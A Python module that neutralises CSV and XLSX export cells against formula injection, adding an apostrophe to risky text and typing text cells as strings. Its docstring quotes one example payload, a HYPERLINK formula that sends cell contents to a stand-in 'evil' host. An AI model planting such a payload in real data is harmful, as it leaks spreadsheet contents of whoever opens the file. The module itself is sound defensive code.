"""Every CSV and XLSX the portal writes goes through here, so no cell becomes a formula.

A supplier names a product ``=HYPERLINK("http://evil/?"&A1,"Click")``; a reviewer exports the
register and opens it in Excel, which runs it (CSV/formula injection). Two rules, in one
place:

* a text that starts with a formula prefix (``=``, ``+``, ``-``, ``@``, tab or carriage
  return) is written with a leading apostrophe, which spreadsheets show as text and never
  evaluate (``neutralise``);
* in XLSX every text cell is typed as a string (``t="s"``/inline string), never as a
  formula, whatever it starts with (``xlsx_row``).

Numbers, dates and booleans are written as they are: they cannot hold a formula.
"""

import csv
import datetime
import io
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"


def neutralise(value: Any) -> Any:
    """The value as a cell may safely hold it: texts with a formula prefix get a ``'``."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    if isinstance(value, datetime.date | datetime.datetime | datetime.time):
        return value
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def csv_cell(value: Any) -> Any:
    """A value for a CSV cell: dates in ISO form, None as empty, texts neutralised."""
    if value is None:
        return ""
    if isinstance(value, datetime.date | datetime.datetime):
        return value.isoformat()
    return neutralise(value)


def csv_line(values: Iterable[Any], *, delimiter: str = ",", lineterminator: str = "\r\n") -> str:
    """One CSV line of safe cells (for streamed answers, one line at a time)."""
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator=lineterminator).writerow(
        [csv_cell(value) for value in values]
    )
    return buffer.getvalue()


def csv_lines(
    rows: Iterable[Iterable[Any]], *, delimiter: str = ",", lineterminator: str = "\r\n"
) -> Iterator[str]:
    for row in rows:
        yield csv_line(row, delimiter=delimiter, lineterminator=lineterminator)


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list:
    """The cells of one row for ``sheet.append``: texts neutralised and typed as strings.

    Works for write-only sheets (``WriteOnlyCell``) and ordinary ones alike.
    """
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in values:
        safe = neutralise(value)
        cell = WriteOnlyCell(sheet, value=safe)
        if isinstance(safe, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells


def xlsx_cell(sheet: Any, *, row: int, column: int, value: Any) -> Any:
    """Set one cell of an ordinary sheet safely (a neutralised value, typed as text)."""
    safe = neutralise(value)
    cell = sheet.cell(row=row, column=column, value=safe)
    if isinstance(safe, str):
        cell.data_type = "s"
    return cell
